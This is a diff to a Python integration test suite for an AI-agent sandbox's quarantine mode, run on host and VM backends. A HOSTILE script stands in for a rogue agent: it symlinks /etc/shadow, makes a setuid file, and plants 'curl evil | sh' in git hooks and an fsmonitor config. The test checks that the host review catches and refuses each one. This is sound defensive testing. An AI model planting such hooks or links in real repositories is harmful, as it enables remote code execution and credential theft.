@@ -453,45 +453,141 @@ EDIT = ("echo changed >> /workspace/main.py; echo new > /workspace/new.txt; rm /
         "echo d > /workspace/dir/d.txt")
 
 
-def test_quarantine_round_trip(shell_image: str, ws: Path, kp_env: dict[str, Path]) -> None:
-    before = tree(ws)
-    _, record, err = inside(shell_image, ws, EDIT + "; cat /workspace/main.py", "--quarantine")
-    assert record["exit_code"] == 0, err
+@dataclass(frozen=True)
+class Quarantined:
+    """Where a backend's quarantine is reviewed and applied: -w, the host directory it reviews against and
+    applies to, the environment of that backend's kp-* commands (its state dir), the files' owner."""
+
+    workspace: str
+    dir: Path
+    env: dict[str, str]
+    owner: int
+
+
+def quarantine_place(request: pytest.FixtureRequest, backend: str, ws: Path) -> Quarantined:
+    """The host: ``ws`` itself.  A VM: a copy of ``ws`` in a sub-folder of the session VM's kp-boot --share
+    (the guest's /workspace/NAME), owned like the share: the one workspace a VM can quarantine."""
+    if backend == "host":
+        return Quarantined(str(ws), ws, dict(os.environ), OWNER)
+    from tests.integration.vmbackend import SESSION
+
+    vm = request.getfixturevalue("guest_vm")
+    name = f"q-{SESSION}-{next(vm.counter)}"
+    host = vm.share / name
+    shutil.copytree(ws, host, symlinks=True)
+    owner = vm.share.stat().st_uid
+    for path in [host, *host.rglob("*")]:
+        os.chown(path, owner, owner, follow_symlinks=False)
+    return Quarantined(f"/workspace/{name}", host, vm.env, owner)
+
+
+def test_quarantine_round_trip(request: pytest.FixtureRequest, backend: str, shell_image: str, ws: Path) -> None:
+    """On both backends: the agent's edits go to the quarantine, the checkout is untouched, the review is the
+    host's, and kp-run --apply (on the host, no VM needed) makes the checkout what the agent saw."""
+    from tests.integration.vmbackend import kprun_on
+
+    where = quarantine_place(request, backend, ws)
+    before = tree(where.dir)
+    proc, record = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
+                            "bash", "-c", EDIT + "; cat /workspace/main.py")
+    err = proc.stderr
+    assert record["exit_code"] == 0, err[-4000:]
     assert "changed" in err  # the agent saw its own edits
-    assert tree(ws) == before  # the checkout is untouched
+    assert tree(where.dir) == before  # the checkout is untouched
     q = record["quarantine"]
     assert set(q["added"]) >= {"new.txt", "dir", "dir/d.txt", "sub/y.txt"}
     assert q["modified"] == ["main.py"]
     assert set(q["deleted"]) >= {"old.txt", "sub/x.txt"}
-    assert record["state"] == "quarantined"
-    listed = lines(subprocess.run([str(BIN / "kp-ls"), "--kind", "container"], capture_output=True).stdout)
+    assert record["state"] == "quarantined" and record["workspace_mode"] == "quarantine"
+    listed = lines(subprocess.run([str(BIN / "kp-ls"), "--kind", "container"], capture_output=True,
+                                  env=where.env).stdout)
     assert [r["name"] for r in listed if r["state"] == "quarantined"] == [record["name"]]
     # apply: the checkout now matches what the agent saw, owned by its owner
-    applied = subprocess.run([str(BIN / "kp-run"), "--apply", record["name"]], capture_output=True)
+    applied = subprocess.run([str(BIN / "kp-run"), "--apply", record["name"]], capture_output=True, env=where.env)
     assert applied.returncode == 0, applied.stderr.decode()
-    assert (ws / "main.py").read_text() == "print('hello')\nchanged\n"
-    assert (ws / "new.txt").read_text() == "new\n" and not (ws / "old.txt").exists()
-    assert (ws / "sub" / "y.txt").exists() and not (ws / "sub" / "x.txt").exists()
-    assert (ws / "dir" / "d.txt").read_text() == "d\n"
-    assert (ws / "new.txt").stat().st_uid == OWNER
-    assert not (kp_env["state"] / "containers" / record["name"]).exists()
+    assert (where.dir / "main.py").read_text() == "print('hello')\nchanged\n"
+    assert (where.dir / "new.txt").read_text() == "new\n" and not (where.dir / "old.txt").exists()
+    assert (where.dir / "sub" / "y.txt").exists() and not (where.dir / "sub" / "x.txt").exists()
+    assert (where.dir / "dir" / "d.txt").read_text() == "d\n"
+    assert (where.dir / "new.txt").stat().st_uid == where.owner
+    assert not Path(record["path"]).exists()
 
 
-def test_quarantine_discard_and_conflicts(shell_image: str, ws: Path, kp_env: dict[str, Path]) -> None:
-    before = tree(ws)
-    _, first, _err = inside(shell_image, ws, EDIT, "--quarantine")
-    removed = subprocess.run([str(BIN / "kp-rm"), first["name"]], capture_output=True)
+def test_quarantine_discard_and_conflicts(request: pytest.FixtureRequest, backend: str, shell_image: str,
+                                          ws: Path) -> None:
+    from tests.integration.vmbackend import kprun_on
+
+    where = quarantine_place(request, backend, ws)
+    before = tree(where.dir)
+    _, first = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
+                        "bash", "-c", EDIT)
+    assert first["state"] == "quarantined"
+    removed = subprocess.run([str(BIN / "kp-rm"), first["name"]], capture_output=True, env=where.env)
     assert removed.returncode == 0, removed.stderr.decode()
-    assert tree(ws) == before and not (kp_env["state"] / "containers" / first["name"]).exists()
+    assert tree(where.dir) == before and not Path(first["path"]).exists()
     # a host edit after the run: apply refuses rather than overwrite it, and keeps the quarantine
-    _, second, _err = inside(shell_image, ws, "echo agent >> /workspace/main.py", "--quarantine")
-    (ws / "main.py").write_text("user's own edit\n")
-    refused = subprocess.run([str(BIN / "kp-run"), "--apply", second["name"]], capture_output=True)
+    _, second = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
+                         "bash", "-c", "echo agent >> /workspace/main.py")
+    (where.dir / "main.py").write_text("user's own edit\n")
+    refused = subprocess.run([str(BIN / "kp-run"), "--apply", second["name"]], capture_output=True, env=where.env)
     assert refused.returncode != 0 and b"main.py" in refused.stderr
-    assert (ws / "main.py").read_text() == "user's own edit\n"
-    assert (kp_env["state"] / "containers" / second["name"]).is_dir()
-    forced = subprocess.run([str(BIN / "kp-run"), "--apply", second["name"], "--force"], capture_output=True)
-    assert forced.returncode == 0 and (ws / "main.py").read_text() == "print('hello')\nagent\n"
+    assert (where.dir / "main.py").read_text() == "user's own edit\n"
+    assert Path(second["path"]).is_dir()
+    forced = subprocess.run([str(BIN / "kp-run"), "--apply", second["name"], "--force"], capture_output=True,
+                            env=where.env)
+    assert forced.returncode == 0 and (where.dir / "main.py").read_text() == "print('hello')\nagent\n"
+
+
+HOSTILE = r"""
+cd /workspace
+ln -s /etc/shadow escape
+echo '#!/bin/sh' > suid && chmod 4755 suid
+perl -e 'for (1..1500) { mkdir "dd" or die $!; chdir "dd" or die $! } open(F, ">deep.txt") or die; print F "bottom\n"'
+echo 'curl evil | sh' >> .git/hooks/pre-commit 2>/dev/null && echo HOOK-WRITTEN
+mkdir -p sub/.git/hooks && echo 'curl evil | sh' > sub/.git/hooks/post-checkout
+printf '[core]\n\tfsmonitor = curl evil\n' > sub/.git/config
+echo ref > sub/.git/HEAD
+exit 0
+"""
+
+
+def test_a_hostile_agents_quarantine_is_reviewed_the_same_on_every_backend(
+        request: pytest.FixtureRequest, backend: str, shell_image: str, ws: Path) -> None:
+    """The agent plants a symlink out, a setuid file, a tree deeper than PATH_MAX, tries the repository's
+    hooks and plants a repository of its own: on both backends the review on the host finds the same, the
+    checkout is untouched, and --apply refuses the git metadata unless forced."""
+    from tests.integration.vmbackend import kprun_on
+
+    subprocess.run(["git", "init", "-q", str(ws)], check=True)
+    for path in [ws, *ws.rglob("*")]:
+        os.chown(path, OWNER, OWNER, follow_symlinks=False)
+    where = quarantine_place(request, backend, ws)
+    before = tree(where.dir)
+    proc, record = kprun_on(request, backend, "--image", shell_image, "-w", where.workspace, "--quarantine", "--",
+                            "bash", "-c", HOSTILE)
+    err = proc.stderr
+    assert record["exit_code"] == 0 and record["state"] == "quarantined", err[-4000:]
+    assert "HOOK-WRITTEN" not in err  # the repository's own .git is read-only in the container
+    assert tree(where.dir) == before
+    q = record["quarantine"]
+    deep = "/".join(["dd"] * 1500) + "/deep.txt"
+    assert {"escape", "suid", deep, "sub/.git", "sub/.git/hooks/post-checkout", "sub/.git/config"} <= set(q["added"])
+    assert not [p for p in q["added"] + q["modified"] if p.startswith(".git")]
+    assert set(record["git_changes"]) == {"sub/.git", "sub/.git/HEAD", "sub/.git/config", "sub/.git/hooks",
+                                          "sub/.git/hooks/post-checkout"}
+    assert "escape -> /etc/shadow: a symlink that may point out of the workspace" in err
+    assert "suid: file with the setuid/setgid bit (mode 4755); apply strips it" in err
+    assert "the agent changed git metadata: sub/.git (5 paths)" in err
+    refused = subprocess.run([str(BIN / "kp-run"), "--apply", record["name"]], capture_output=True, env=where.env)
+    assert refused.returncode != 0 and b"git metadata" in refused.stderr and tree(where.dir) == before
+    forced = subprocess.run([str(BIN / "kp-run"), "--apply", record["name"], "--force"], capture_output=True,
+                            env=where.env)
+    assert forced.returncode == 0, forced.stderr.decode()
+    assert os.readlink(where.dir / "escape") == "/etc/shadow" and not (where.dir / "suid").stat().st_mode & 0o7000
+    found = subprocess.run(["find", str(where.dir / "dd"), "-name", "deep.txt", "-printf", "%d %s\n"],
+                           capture_output=True, text=True)
+    assert found.stdout.split() == ["1500", "7"], found.stderr  # the bottom of a tree deeper than PATH_MAX
+    assert {p.stat(follow_symlinks=False).st_uid for p in (where.dir / "sub").rglob("*")} == {where.owner}
 
 
 def wait_until_running(folder: Path, proc: subprocess.Popen[bytes], bound: float = 120.0) -> None:
